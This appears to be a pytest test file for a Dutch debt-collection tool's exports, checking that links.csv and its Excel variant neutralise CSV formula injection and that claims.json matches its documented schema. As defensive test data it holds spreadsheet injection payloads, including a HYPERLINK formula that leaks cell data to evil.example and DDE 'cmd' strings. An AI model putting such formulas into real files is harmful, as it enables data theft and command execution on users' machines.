"""The exports: links.csv for a mail merge (the postal address a line per column, nothing
dropped), and no cell a spreadsheet would run as a formula (OWASP CSV injection); claims.json
written as json.dumps writes it."""

from __future__ import annotations

import csv
import io
import json
import re
import shutil
import stat
import unicodedata
from collections.abc import Iterator
from dataclasses import dataclass, replace
from datetime import date
from decimal import Decimal
from enum import Enum
from pathlib import Path

import orjson
import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from incasso.bank.books import read_books
from incasso.claims.assess import assess
from incasso.claims.states import (
    AccordState,
    ActionKind,
    CostsState,
    InstallmentStatus,
    PlanState,
    PromiseState,
    Stage,
    Status,
)
from incasso.ledger.load import load_ledger
from incasso.ledger.model import DebtorType, Language, PauseAsker, ReturnedPayment
from incasso.staff.ageing import Bucket
from incasso.staff.bank_record import bank_record
from incasso.staff.exports import (
    AMOUNT_COLUMNS,
    CELL_BREAK,
    CLAIMS_FORMAT,
    CLAIMS_VERSION,
    EXCEL_LINKS,
    LINK_COLUMNS,
    PLAIN_NUMBER,
    address_columns,
    claim_record,
    claims_document,
    claims_json,
    csv_text,
    flag_kinds,
    links_excel_csv,
    links_rows,
    runs_as_formula,
    spreadsheet_safe,
)
from incasso.staff.outside import outside_of_claims
from incasso.staff.overview import BankReturns, FlagKind, RefundReturned
from incasso.staff.view import doubted_credits, possibly_paid, staff_book
from tests.staff.test_bank_record import _returned_with_charges
from tests.support.bankfiles import CREDITOR_IBAN, Booking, camt053, write_bank
from tests.support.ledgers import (
    MISSING,
    event,
    invoice,
    one_debtor_ledger,
    payment,
    valid_creditor,
    valid_debtor,
    write_ledger,
)
from tests.support.site import AS_OF, DEMO_LEDGER, PRIVACY_LEDGER, REPO, build_site


def test_the_address_a_line_per_column():
    assert address_columns(["Dorpsstraat 1", "1234 AB Ergens"]) == {
        "address_1": "Dorpsstraat 1",
        "address_2": "1234 AB Ergens",
        "address_3": "",
        "address_4": "",
    }


def test_a_longer_address_keeps_its_extra_lines_in_the_last_column():
    lines = ["Afdeling Inkoop", "Postbus 12", "1234 AB Ergens", "Nederland", "(via de zijingang)"]
    assert address_columns(lines)["address_4"] == "Nederland, (via de zijingang)"
    assert list(address_columns(lines)) == [c for c in LINK_COLUMNS if c.startswith("address_")]


def test_the_columns_users_already_merge_on_stay_first():
    assert LINK_COLUMNS[:10] == (
        "id",
        "name",
        "email",
        "language",
        "stage",
        "status",
        "total_due",
        "amount_due_now",
        "amount_to_pay",
        "url",
    )


def test_a_mail_merge_greets_whom_the_letters_greet(tmp_path):
    # A new column goes last: a mail merge that reads columns by place keeps working.
    assert LINK_COLUMNS.index("salutation") == 16
    greeted = one_debtor_ledger(tmp_path / "a", **{"contact.salutation": "mevrouw Van der Heijden"})
    plain = one_debtor_ledger(tmp_path / "b")
    rows = [links_rows([assess(ledger, ledger.debtors[0], AS_OF)], lambda c: "")[0] for ledger in (greeted, plain)]
    assert [row["salutation"] for row in rows] == ["mevrouw Van der Heijden", ""]


def test_the_calls_of_the_day_have_the_debtor_s_phone_in_its_own_column(tmp_path):
    """As written in the ledger, so a call list and a merged letter made from links.csv print what the dossier
    page shows: a number the ledger's check let through (digits, spaces, a leading +) holds no formula, so
    it gets no quote there (review 31, #2). Excel, opening links-excel.csv, would still read "+32 3 ..." as a
    formula or a number: there it keeps the quote, as any text cell that starts with +. It was the last column
    until email_to_name came after it (s44): its place stays."""
    assert LINK_COLUMNS.index("phone") == 17 and LINK_COLUMNS.index("salutation") == 16
    phone = LINK_COLUMNS.index("phone")
    debtors = [
        valid_debtor(id="D-1001", **{"contact.phone": "+31 6 12345678"}),
        valid_debtor(id="D-1002", **{"contact.phone": "030 204 18 60", "invoices[0].number": "F-2"}),
        valid_debtor(id="D-1003", **{"contact.phone": MISSING, "invoices[0].number": "F-3"}),
        valid_debtor(id="D-1004", **{"contact.phone": "+32 3 234 56 78", "invoices[0].number": "F-4"}),
    ]
    site = build_site(tmp_path, ledger=write_ledger(tmp_path, creditor=valid_creditor(), debtors=debtors))
    assert site.exit_code == 0
    for name, delimiter, quote in (("links.csv", ",", ""), (EXCEL_LINKS, ";", "'")):
        header, *rows = read_rows(site.internal / name, delimiter)
        assert header[phone] == "phone"
        assert [(row[0], row[phone]) for row in rows] == [
            ("D-1001", f"{quote}+31 6 12345678"),
            ("D-1002", "030 204 18 60"),
            ("D-1003", ""),
            ("D-1004", f"{quote}+32 3 234 56 78"),
        ]
    merged = {row["id"]: row["phone"] for row in csv.DictReader((site.internal / "links.csv").open(newline=""))}
    assert merged["D-1004"] == "+32 3 234 56 78"


def test_only_a_phone_the_ledger_checked_goes_without_its_quote():
    """The phone column of a row made elsewhere than from the ledger is guarded as any cell: only digits,
    spaces and a phone's punctuation after an optional + go bare."""
    rows = [dict.fromkeys(LINK_COLUMNS, "") | {"id": "X-1", "name": "+31 6 1234", "phone": "+31 6 12345678"}]
    (row,) = csv.DictReader(io.StringIO(csv_text(LINK_COLUMNS, rows, phones=("phone",)), newline=""))
    assert (row["name"], row["phone"]) == ("'+31 6 1234", "+31 6 12345678")
    for formula in ("+1+cmd|' /C calc'!A0", "+HYPERLINK(A1)", "-2+3", "=1+1", "+31 6 1234;=1+1"):
        rows[0]["phone"] = formula
        (row,) = csv.DictReader(io.StringIO(csv_text(LINK_COLUMNS, rows, phones=("phone",)), newline=""))
        assert row["phone"].startswith("'"), formula


FORMULAS = [
    '=HYPERLINK("https://evil.example/?leak="&A2,"Klik")',
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "+31 6 12345678",
    "-2+3",
    "=1+1",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    "  =1+1",
    "\u00a0@SUM(A1)",
    "\uff1d1+1",  # a full-width equals sign, which some spreadsheets take for "="
    "\uff20SUM(A1)",
]
PLAIN = ["Jansen B.V.", "12.50", "-12.50", "0.00", "1250", "a=b", "", "https://betalen.voorbeeld.nl/s/abc/", "O'Brien"]


@pytest.mark.parametrize("cell", FORMULAS, ids=repr)
def test_a_cell_a_spreadsheet_would_run_gets_a_leading_quote(cell):
    assert spreadsheet_safe(cell) == "'" + cell


@pytest.mark.parametrize("cell", PLAIN, ids=repr)
def test_text_and_numbers_stay_as_they_are(cell):
    assert spreadsheet_safe(cell) == cell


def _safe_as_before(cell: str) -> str:
    """spreadsheet_safe as it was before it let a cell it need not look at through at once (session 42)."""
    if PLAIN_NUMBER.fullmatch(cell):
        return cell
    parts = CELL_BREAK.sub(lambda sep: sep[0] + ("'" if runs_as_formula(cell[sep.end() :]) else ""), cell)
    return "'" + parts if runs_as_formula(cell) else parts


SAFE_OR_NOT = ["Jansen", "A;=1+1", "1,+2", "Priya;=1+1", "x,@y", "9 ;-1", "Zoë", "a\t=1", "0031 6 1234", "12.50;=1"]


@pytest.mark.parametrize("cell", SAFE_OR_NOT + FORMULAS + PLAIN, ids=repr)
def test_a_cell_let_through_at_once_is_one_that_needed_no_look(cell):
    assert spreadsheet_safe(cell) == _safe_as_before(cell)


@given(st.text(alphabet=st.sampled_from("aZ09 ;,=+-@.\t\n\uff1d\u00a0'\"é"), max_size=12))
@settings(max_examples=300, deadline=None)
def test_any_cell_is_made_safe_as_before(cell):
    assert spreadsheet_safe(cell) == _safe_as_before(cell)


def test_every_cell_of_an_export_is_made_safe_and_read_back_whole():
    rows = [dict.fromkeys(LINK_COLUMNS, "") | {"id": "X-1", "name": FORMULAS[0], "total_due": "-12.50"}]
    (read,) = csv.DictReader(io.StringIO(csv_text(LINK_COLUMNS, rows)))
    assert read["name"] == "'" + FORMULAS[0] and read["total_due"] == "-12.50" and read["id"] == "X-1"


def test_the_docs_say_the_quote_shows_in_a_cell_read_from_a_csv_file():
    # Excel and LibreOffice hide a leading quote in a cell typed into them, not in one read from a CSV file:
    # the docs promised a hidden quote, so a clerk seeing '=HYPERLINK(...) took it for a fault.
    text = " ".join((REPO / "docs" / "cli.md").read_text(encoding="utf-8").split())
    assert "hide the quote" not in text
    assert "but **the clerk sees the quote** in the cell (`'=HYPERLINK(...)`, `'-2+3 Straat 5`)" in text


def test_a_formula_in_the_ledger_reaches_links_csv_as_text(tmp_path):
    ledger = Path(shutil.copytree(PRIVACY_LEDGER, tmp_path / "ledger"))
    debtor = ledger / "debtors" / "P-001.yaml"
    name = '=HYPERLINK("https://evil.example/?"&B3,"Betaal hier")'
    debtor.write_text(
        debtor.read_text(encoding="utf-8").replace("name: Annelies Kraaijeveld", f"name: '{name}'"), encoding="utf-8"
    )
    site = build_site(tmp_path, ledger=ledger)
    assert site.exit_code == 0
    with (site.internal / "links.csv").open(encoding="utf-8", newline="") as f:
        rows = {row["id"]: row for row in csv.DictReader(f)}
    assert rows["P-001"]["name"] == "'" + name
    assert all(re.fullmatch(r"\d+\.\d\d", rows["P-001"][column]) for column in ("total_due", "amount_to_pay"))
    # A checked phone is the one cell that may start with + (digits and blanks run nothing: review 31, #2).
    cells = [cell for row in rows.values() for column, cell in row.items() if column != "phone"]
    assert all(not cell.startswith(("=", "+", "-", "@")) for cell in cells)
    assert all(re.fullmatch(r"\+?[\d ]*", row["phone"]) for row in rows.values())


# claims.json: each claim written by orjson, the whole as json.dumps would write it.

JSON_KEYS = st.text(max_size=8)
JSON_VALUES = st.recursive(
    st.none()
    | st.booleans()
    | st.integers(min_value=-(2**70), max_value=2**70)  # beyond 64 bits, which orjson refuses
    | st.text(st.characters(exclude_categories=())),  # lone surrogates too, which orjson refuses
    lambda inner: st.lists(inner, max_size=3) | st.dictionaries(JSON_KEYS, inner, max_size=3),
    max_leaves=12,
)


def as_json_dumps_writes(document: dict) -> str:
    return json.dumps(document, indent=2, sort_keys=True, ensure_ascii=False) + "\n"


@dataclass
class Shelf:
    name: str


def test_what_json_refuses_orjson_leaves_to_it():
    """A date or a dataclass in a claim fails the build as before, not written by orjson alone."""
    for value in (date(2026, 11, 30), Shelf("A")):
        with pytest.raises(TypeError, match="not JSON serializable"):
            claims_json({"claims": [{"value": value}]})


@settings(max_examples=300, deadline=None)
@given(
    claims=st.lists(st.dictionaries(JSON_KEYS, JSON_VALUES, max_size=5), max_size=4),
    header=st.dictionaries(st.sampled_from(["as_of", "format", "stages", "version", "zz"]), JSON_VALUES),
)
def test_claims_json_is_what_json_dumps_writes(claims, header):
    """Any JSON values but floats, which a claims document does not hold (the next test)."""
    document = {**header, "claims": claims}
    assert claims_json(document) == as_json_dumps_writes(document)


def test_a_claims_documents_enums_and_figures_are_written_as_json_dumps_writes_them():
    """The document as the build makes it (stages and states are str enums), not as read back."""
    ledger = load_ledger(DEMO_LEDGER)
    claims = [assess(ledger, debtor, AS_OF) for debtor in ledger.debtors]
    document = claims_document(claims, AS_OF, ledger.creditor.policy, lambda claim: f"s/{claim.debtor.id}/")
    assert any(isinstance(claim["stage"], Enum) for claim in document["claims"])
    assert _value_types(document) <= {str, int, bool, type(None)}  # no float: orjson writes those otherwise
    assert claims_json(document) == as_json_dumps_writes(document)
    assert claims_json({"claims": []}) == '{\n  "claims": []\n}\n'
    # The records as they are made, for the build to write each and let it go: the same bytes.
    for made in (claims, []):
        streamed = claims_document(made, AS_OF, ledger.creditor.policy, lambda c: f"s/{c.debtor.id}/", whole=False)
        assert not isinstance(streamed["claims"], list)
        whole = claims_document(made, AS_OF, ledger.creditor.policy, lambda c: f"s/{c.debtor.id}/")
        assert claims_json(streamed) == claims_json(whole)
    # json would write a claim orjson refuses the same, 20 times slower: none of the build's may be one.
    for claim in document["claims"]:
        orjson.dumps(claim, option=orjson.OPT_INDENT_2 | orjson.OPT_SORT_KEYS)


def _value_types(node: object) -> set[type]:
    """The types of a document's leaves, a str enum counted as str."""
    if isinstance(node, dict):
        return set().union(*map(_value_types, node.values())) if node else set()
    if isinstance(node, list):
        return set().union(*map(_value_types, node)) if node else set()
    return {str if isinstance(node, str) else type(node)}


# -- a formula after a separator, for a spreadsheet that splits the cell there (review 25, #1) --------------

TRIGGERS = ("=", "+", "-", "@", "\t", "\r")


@pytest.mark.parametrize(
    ("cell", "safe"),
    [
        ("Priya;=1+1;Raman", "Priya;'=1+1;Raman"),
        ("Bollenhofsestraat 84; =HYPERLINK(A1)", "Bollenhofsestraat 84;' =HYPERLINK(A1)"),
        ("Jansen,+31 6 1234", "Jansen,'+31 6 1234"),
        ("a;\t=1", "a;'\t=1"),
        ("=1;@SUM(A1)", "'=1;'@SUM(A1)"),
        ("a, \uff1d1+1", "a,' \uff1d1+1"),  # a full-width equals sign after the blank
        ("Postbus 12, 1234 AB Ergens", "Postbus 12, 1234 AB Ergens"),
        ("Smit;Jansen, de Vries", "Smit;Jansen, de Vries"),
    ],
    ids=repr,
)
def test_a_formula_after_a_semicolon_or_comma_gets_a_quote_too(cell, safe):
    assert spreadsheet_safe(cell) == safe


def runs(cell: str) -> bool:
    """Whether a spreadsheet would run this cell; a plain number ("-12", an amount split at its comma) is a
    number, not a formula."""
    if re.fullmatch(r"-?\d+", cell.strip()):
        return False
    return cell.startswith(TRIGGERS) or unicodedata.normalize("NFKC", cell.lstrip()[:1]) in TRIGGERS


HOSTILE = {
    "name: Annelies Kraaijeveld": "name: 'Priya;=1+1;Raman'",
    "person: Annelies Kraaijeveld": "person: 'Zoë Ëlst, @SUM(A1)'",
    "address: [Canarylaan 7, 9999 ZZ Nergenshuizen]": (
        "address: ['Bollenhofsestraat 84; =HYPERLINK(A1)', '3572 VV Utrecht,-2+3']"
    ),
}


@pytest.fixture(scope="module")
def hostile(tmp_path_factory):
    """The privacy ledger built with P-001's name, person and address holding formulas after a ';' or ','."""
    tmp_path = tmp_path_factory.mktemp("hostile")
    ledger = Path(shutil.copytree(PRIVACY_LEDGER, tmp_path / "ledger"))
    debtor = ledger / "debtors" / "P-001.yaml"
    text = debtor.read_text(encoding="utf-8")
    for plain_text, formula in HOSTILE.items():
        assert plain_text in text
        text = text.replace(plain_text, formula)
    debtor.write_text(text, encoding="utf-8")
    site = build_site(tmp_path, ledger=ledger)
    assert site.exit_code == 0
    return site


@pytest.mark.parametrize("name", ["links.csv", EXCEL_LINKS])
@pytest.mark.parametrize("delimiter", [";", ","])
def test_no_cell_of_the_exports_runs_whichever_delimiter_a_spreadsheet_reads_them_with(hostile, name, delimiter):
    text = (hostile.internal / name).read_bytes().decode("utf-8-sig")
    cells = [cell for row in csv.reader(io.StringIO(text, newline=""), delimiter=delimiter) for cell in row]
    assert any("=1+1" in cell for cell in cells) and any("HYPERLINK" in cell for cell in cells)
    # links.csv writes a checked phone as it is ("+31 6 11 22 33 44"): digits and blanks run nothing.
    phones = {"+31 6 11 22 33 44", "+31 20 987 65 43"} if name == "links.csv" else set()
    assert delimiter == ";" or phones <= set(cells)
    assert [cell for cell in cells if runs(cell) and cell not in phones] == []


def read_rows(path: Path, delimiter: str) -> list[list[str]]:
    with path.open(encoding="utf-8-sig", newline="") as f:
        return list(csv.reader(f, delimiter=delimiter))


def test_links_excel_csv_is_links_csv_as_excel_with_dutch_settings_opens_it(hostile):
    raw = (hostile.internal / EXCEL_LINKS).read_bytes()
    assert raw.startswith(b"\xef\xbb\xbf") and not raw.startswith(b"\xef\xbb\xbf\xef\xbb\xbf")
    lines = raw[3:].decode("utf-8").split("\r\n")
    assert lines[-1] == "" and not any("\n" in line for line in lines)  # CRLF after every line, no lone LF
    links, excel = read_rows(hostile.internal / "links.csv", ","), read_rows(hostile.internal / EXCEL_LINKS, ";")
    assert excel[0] == links[0] == list(LINK_COLUMNS)  # a mail merge template made for links.csv fits
    amounts = [LINK_COLUMNS.index(column) for column in AMOUNT_COLUMNS]
    # The phone the only other difference: Excel would read "+31 6 ..." as a formula, a mail merge prints a quote.
    phone = LINK_COLUMNS.index("phone")

    def in_excel(i: int, c: str) -> str:
        if i in amounts:
            return c.replace(".", ",")
        return "'" + c if i == phone and c.startswith("+") else c

    expected = [[in_excel(i, c) for i, c in enumerate(row)] for row in links[1:]]
    assert excel[1:] == expected
    assert all(re.fullmatch(r"\d+,\d\d", row[i]) for row in excel[1:] for i in amounts)
    (p001,) = [row for row in excel if row[0] == "P-001"]
    assert p001[LINK_COLUMNS.index("person")] == "Zoë Ëlst,' @SUM(A1)"
    # Every text cell in quotes, the amounts bare: Excel reads them as numbers.
    cell = r'(?:"(?:[^"]|"")*"|\d+,\d\d)'
    assert all(re.fullmatch(rf"{cell}(?:;{cell})*", line) for line in lines[:-1])
    assert stat.S_IMODE((hostile.internal / EXCEL_LINKS).stat().st_mode) == 0o600


def test_the_excel_file_is_written_with_the_cells_made_safe():
    rows = [dict.fromkeys(LINK_COLUMNS, "") | {"id": "X-1", "name": 'a "b";=1', "total_due": "-12.50"}]
    mark, text = links_excel_csv(rows)
    assert mark == "\ufeff"
    (row,) = csv.DictReader(io.StringIO(text, newline=""), delimiter=";")
    assert row["name"] == 'a "b";\'=1' and row["total_due"] == "-12,50"
    assert ";-12,50;" in text and '"a ""b"";\'=1"' in text


# -- the rows by id, as claims.json (review 25, #10) --------------------------------------------------------


def test_the_links_follow_the_debtors_ids_not_their_files_order():
    ledger = load_ledger(DEMO_LEDGER)
    claims = [assess(ledger, debtor, AS_OF) for debtor in reversed(ledger.debtors)]
    ids = [row["id"] for row in links_rows(claims, lambda c: "")]
    assert ids == sorted(ids) and len(ids) == len(claims) > 1
    document = claims_document(claims, AS_OF, ledger.creditor.policy, lambda c: "")
    assert ids == [claim["id"] for claim in document["claims"]]


# -- claims.json as docs/cli.md documents it (review 25, #8) ------------------------------------------------

DOCS = REPO / "docs" / "cli.md"
ROW = re.compile(r"\| `([^`]+)` \| ([^|]+) \| (.*) \|")
TYPES = {
    "string": lambda v: isinstance(v, str),
    "money": lambda v: isinstance(v, str) and re.fullmatch(r"-?\d+\.\d\d", v) is not None,
    "date": lambda v: isinstance(v, str) and re.fullmatch(r"\d{4}-\d\d-\d\d", v) is not None,
    "integer": lambda v: isinstance(v, int) and not isinstance(v, bool),
    "boolean": lambda v: isinstance(v, bool),
    "object": lambda v: isinstance(v, dict),
    "array": lambda v: isinstance(v, list),
    "null": lambda v: v is None,
}


def documented() -> tuple[dict[str, tuple[str, str]], dict[str, tuple[str, str]]]:
    """The claims.json section's two tables, the document's and a claim's: each field with its type and values."""
    section = DOCS.read_text(encoding="utf-8").split("\n### claims.json\n", 1)[1].split("\n## ", 1)[0]
    _, document, claim = section.split("| field | type | values |")
    return tuple(  # type: ignore[return-value]
        {row[1]: (row[2].strip(), row[3]) for line in table.splitlines() if (row := ROW.fullmatch(line))}
        for table in (document, claim)
    )


def fields(node: object, path: str = "") -> Iterator[tuple[str, object]]:
    """Every field of a JSON value, as docs/cli.md names it (`plan.installments[].due`), with its value."""
    if isinstance(node, dict):
        for key, value in node.items():
            field = f"{path}.{key}" if path else key
            yield field, value
            yield from fields(value, field)
    elif isinstance(node, list):
        for item in node:
            if not isinstance(item, dict | list):  # an object's fields are named, not the object (`flags[]`)
                yield f"{path}[]", item
            yield from fields(item, f"{path}[]")


def real_claims_json(site, tmp_path: Path) -> tuple[list[tuple[str, object]], list[tuple[str, object]]]:
    """The demo build's claims.json as fields, the document's and its claims', a claim with a payment the
    bank took back and a refund that came back, one with a disputed invoice, and one with money to pass on to the
    agency (the demo has none of these)."""
    document = json.loads((site.internal / "claims.json").read_text(encoding="utf-8"))
    claims = document.pop("claims")
    top = [(re.sub(r"^stages\.[a-z_]+", "stages.<stage>", f), v) for f, v in fields(document)]
    ledger = load_ledger(DEMO_LEDGER)
    returns = BankReturns(
        (
            ReturnedPayment("B1", Decimal("150.00"), date(2026, 11, 4), date(2026, 11, 12), None, None),
            # Written as taken back in the debtor's file, without its bank_ref (s61: null, as a payment's own), and
            # where (s62: `written`).
            ReturnedPayment(
                None,
                Decimal("20.00"),
                date(2026, 11, 5),
                date(2026, 11, 12),
                None,
                None,
                written=(ledger.debtors[0].source, "payments[1].returned"),
            ),
        ),
        (RefundReturned(Decimal("10.00"), date(2026, 11, 2), date(2026, 11, 3), None, "B2"),),
    )
    returned = claim_record(assess(ledger, ledger.debtors[0], AS_OF), ledger.creditor.policy, "", returns=returns)
    one_disputed = one_debtor_ledger(
        tmp_path,
        invoices=[invoice(number=n, amount=Decimal("300.00")) for n in ("F-A", "F-B", "F-C")],
        events=[event(date(2026, 2, 9), "dispute", reason="Niet geleverd", invoices=["F-B", "F-C"])],
        payments=[payment(date=date(2026, 2, 12), amount=Decimal("100.00"), invoices=["F-B", "F-C"])],
    )
    disputed = claim_record(assess(one_disputed, one_disputed.debtors[0], AS_OF), one_disputed.creditor.policy, "")
    assert disputed["disputed_invoices"][0]["kept_together"]  # what a payment naming both keeps for them
    replaced = [
        event(date(2026, 2, 9), "promise", promised_date=date(2026, 2, 12)),
        event(date(2026, 2, 16), "arrangement", installments=[{"due": date(2026, 3, 1), "amount": Decimal("600")}]),
        event(date(2026, 3, 10), "arrangement", installments=[{"due": date(2026, 4, 1), "amount": Decimal("650")}]),
    ]
    one_ended = one_debtor_ledger(tmp_path / "ended", events=replaced)
    ended = claim_record(assess(one_ended, one_ended.debtors[0], AS_OF), one_ended.creditor.policy, "")
    assert [set(e) for e in ended["ended"]] == [{"on", "promise"}, {"on", "plan"}]
    # Money that reached us after a handover, to pass on to the agency.
    one_handed = one_debtor_ledger(
        tmp_path / "handed",
        events=[event(date(2026, 2, 10), "handover", agency="Incasso B.V.")],
        payments=[payment(date=date(2026, 2, 12), amount=Decimal("100.00"), bank_ref="B3")],
    )
    handed = claim_record(assess(one_handed, one_handed.debtors[0], AS_OF), one_handed.creditor.policy, "")
    assert handed["pass_on"] is not None
    waits = _asked_pause_record(tmp_path / "waits")
    waits_over_plan = _wait_over_plan_record(tmp_path / "waits_over_plan")
    settling = _settlement_records(tmp_path / "settling")
    records = [*claims, returned, disputed, ended, handed, waits, waits_over_plan, *settling]
    pairs = [pair for claim in records for pair in fields(claim)]
    top += [pair for pair in fields(_outside_bank(tmp_path / "outside"), "bank") if "outside_ledger" in pair[0]]
    charged = fields(_charges_bank(tmp_path / "charges"), "bank")
    top += [pair for pair in charged if pair[0].endswith(".charges") or pair[0].startswith("bank.returns[].answer")]
    apart = _returned_with_charges(tmp_path / "apart", "both")["bank"]
    top += [pair for pair in fields(apart, "bank") if pair[0].endswith(".charges_apart")]
    # An ended promise or plan is as `promise` or `plan` (the docs say so once): its fields are named as theirs.
    return top + [("claims", claims)], [(re.sub(r"^ended\[\]\.(promise|plan)\.", r"\1.", f), v) for f, v in pairs]


def _asked_pause_record(tmp_path: Path, asked_by: str | None = "representative") -> dict:
    """claims.json's record of a claim whose dunning letter a `postpone` holds back, asked for by the debtor's
    counsellor (the demo has none), or staff's own (`asked_by` None)."""
    pause = event(
        date(2026, 11, 12), "postpone", until=date(2026, 12, 1), reason="Schuldhulp\nmaakt een inventarisatie"
    )
    if asked_by is not None:
        pause["asked_by"] = asked_by
    counsellor = {"representative": {"role": "counsellor", "name": "Schuldhulp Utrecht", "since": "2026-11-01"}}
    ledger = one_debtor_ledger(tmp_path, events=[event(date(2026, 11, 2), "reminder"), pause], **counsellor)
    return claim_record(assess(ledger, ledger.debtors[0], AS_OF), ledger.creditor.policy, "")


def _wait_over_plan_record(tmp_path: Path, asked_by: str | None = "representative", until: date = date(2027, 3, 1)):
    """claims.json's record of a plan on schedule while a `postpone` stands (the demo has none): the next action is the
    check of an instalment, which the wait does not move; it holds back the reminder a miss would bring."""
    plan = event(
        date(2026, 11, 10),
        "arrangement",
        installments=[
            {"due": date(2026, 12, 1), "amount": Decimal("625.00")},
            {"due": date(2027, 1, 1), "amount": 625},
        ],
    )
    pause = event(date(2026, 11, 12), "postpone", until=until, reason="Schuldhulp\nmaakt een inventarisatie")
    if asked_by is not None:
        pause["asked_by"] = asked_by
    counsellor = {"representative": {"role": "counsellor", "name": "Schuldhulp Utrecht", "since": "2026-11-01"}}
    ledger = one_debtor_ledger(tmp_path, events=[event(date(2026, 11, 2), "reminder"), plan, pause], **counsellor)
    return claim_record(assess(ledger, ledger.debtors[0], AS_OF), ledger.creditor.policy, "")


def _settlement_records(tmp_path: Path) -> list[dict]:
    """claims.json's records of a settlement by a day, agreed with the counsellor, and of one in instalments (the
    demo has none)."""
    counsellor = {"representative": {"role": "counsellor", "name": "Schuldhulp Utrecht", "since": "2026-11-01"}}
    day = date(2026, 11, 18)
    by_day = event(day, "settlement", amount=Decimal("600.00"), pay_by=date(2027, 1, 31), asked_by="representative")
    parts = [{"due": date(2026, 12, 20), "amount": Decimal("20.00")}, {"due": date(2027, 1, 20), "amount": 20}]
    in_parts = event(day, "settlement", amount=Decimal("40.00"), installments=parts)
    records = []
    for n, agreed in enumerate((by_day, in_parts)):
        ledger = one_debtor_ledger(tmp_path / str(n), events=[agreed], **counsellor)
        records.append(claim_record(assess(ledger, ledger.debtors[0], AS_OF), ledger.creditor.policy, ""))
    assert [r["status"] for r in records] == ["settlement", "settlement"]
    assert records[0]["settlement"]["remitted"] == "650.00" and records[1]["settlement"]["installments"]
    return records


def _outside_bank(tmp_path: Path) -> dict:
    """claims.json's `bank` of a ledger with `invoice_numbers` and a credit of an invoice outside it (the demo has
    none): the fields only such a credit has."""
    creditor = valid_creditor(invoice_numbers=["F####-####"])
    root = write_ledger(tmp_path, creditor=creditor, debtors=[valid_debtor()])
    credit = Booking("40.00", date(2026, 2, 3), ref="OUT1", text="Factuur F2026-0301", name="P. Smit", iban=None)
    write_bank(root, {"a.xml": camt053(CREDITOR_IBAN, [credit])})
    books = read_books(root, AS_OF)
    claims = [assess(books.ledger, d, AS_OF) for d in books.ledger.debtors]
    record = bank_record(books.bank, claims, outside_of_claims(books.bank, claims, books.ledger.creditor))
    assert record is not None and record["unassigned"][0]["outside_ledger"] == ["F2026-0301"]
    return record


def _charges_bank(tmp_path: Path) -> dict:
    """claims.json's `bank` of a ledger whose bank took a payment back with charges on top, as the entry says, and
    staff wrote the charges booked (creditor.yaml's bank_returns; the demo has neither): the fields only such a return
    has."""
    credit = Booking("40.00", date(2026, 2, 3), ref="C1", end_to_end="E1")
    back = Booking("42.50", date(2026, 2, 9), credit=False, ref="R1", return_reason="MD06", end_to_end="E1")
    booked = {"bank_ref": "R1", "date": back.booked, "credit": "C1", "credit_date": credit.booked, "reason": "Geboekt"}
    root = write_ledger(tmp_path, creditor=valid_creditor(bank_returns=[booked]), debtors=[valid_debtor()])
    write_bank(root, {"a.xml": camt053(CREDITOR_IBAN, [credit, replace(back, instructed="40.00")])})
    books = read_books(root, AS_OF)
    record = bank_record(books.bank, [assess(books.ledger, d, AS_OF) for d in books.ledger.debtors])
    assert record is not None and record["returns"][0]["charges"] == "2.50"
    assert record["returns"][0]["answer"] == {"place": "bank_returns[0]", "reason": "Geboekt"}
    return record


def test_claims_json_has_every_field_the_docs_list_and_no_other(demo_site, tmp_path):
    docs_document, docs_claim = documented()
    top, claim = real_claims_json(demo_site, tmp_path)
    assert {f for f, _ in top} == set(docs_document)
    assert {f for f, _ in claim} == set(docs_claim)


def test_every_value_in_claims_json_has_the_type_the_docs_give(demo_site, tmp_path):
    docs_document, docs_claim = documented()
    top, claim = real_claims_json(demo_site, tmp_path)
    for docs, pairs in ((docs_document, top), (docs_claim, claim)):
        for field, value in pairs:
            kinds = docs[field][0].split(" or ")
            assert all(kind in TYPES for kind in kinds), (field, kinds)
            assert any(TYPES[kind](value) for kind in kinds), (field, value, kinds)


ENUMS = {
    "type": DebtorType,
    "language": Language,
    "stage": Stage,
    "status": Status,
    "costs.state": CostsState,
    "next_action.kind": ActionKind,
    "promise.state": PromiseState,
    "plan.state": PlanState,
    "plan.installments[].state": InstallmentStatus,
    "next_action.postponed.asked_by": PauseAsker,
    "next_action.postponed_if_missed.asked_by": PauseAsker,
    "settlement.state": AccordState,
    "settlement.asked_by": PauseAsker,
    "settlement.installments[].state": InstallmentStatus,
}


def test_the_docs_list_every_value_of_claims_json_s_states_and_kinds():
    docs_document, docs_claim = documented()
    for field, enum in ENUMS.items():
        assert set(re.findall(r"`([^`]+)`", docs_claim[field][1])) == {str(e) for e in enum}, field
    assert set(re.findall(r"`([a-z_]+)`", docs_document["stages"][1])) == {str(s) for s in Stage}
    assert {f.split(".", 1)[1] for f in docs_claim if f.startswith("ageing.")} == {str(b) for b in Bucket}
    # Every signal of the overview but the notes on a dossier, which are only there and on the dossier page.
    notes = {FlagKind.NOTE_BEFORE_STEP, FlagKind.DOSSIER_NOTE}
    listed, kinds = set(re.findall(r"`([a-z_]+)`", docs_claim["flags[]"][1])), {str(f) for f in FlagKind} - notes
    where = "docs/cli.md, claims.json's `flags[]` row"
    assert not kinds - listed, f"{where}: name the signal {', '.join(sorted(kinds - listed))} and what it means"
    assert not listed - kinds, f"{where} names {', '.join(sorted(listed - kinds))}, no signal claims.json writes"
    assert f"`{CLAIMS_FORMAT}`" in docs_document["format"][1] and f"`{CLAIMS_VERSION}`" in docs_document["version"][1]


def test_the_unassigned_credits_in_claims_json_are_in_the_order_of_their_day_and_amount(tmp_path):
    # By amount as a number: 20.00 before 100.00 (as text, "100.00" came first).
    from incasso.bank.books import read_books
    from tests.support.bankfiles import CREDITOR_IBAN, Booking, camt053, write_bank
    from tests.support.ledgers import valid_creditor, valid_debtor, write_ledger

    root = write_ledger(tmp_path, creditor=valid_creditor(interest="none"), debtors=[valid_debtor(id="D-1")])
    day = date(2026, 11, 3)
    write_bank(
        root, {"a.xml": camt053(CREDITOR_IBAN, [Booking("100.00", day, ref="B"), Booking("20.00", day, ref="A")])}
    )
    books = read_books(root, AS_OF)
    claims = [assess(books.ledger, d, AS_OF) for d in books.ledger.debtors]
    document = claims_document(claims, AS_OF, books.ledger.creditor.policy, lambda c: "", bank=books.bank)
    assert [credit["amount"] for credit in document["bank"]["unassigned"]] == ["20.00", "100.00"]


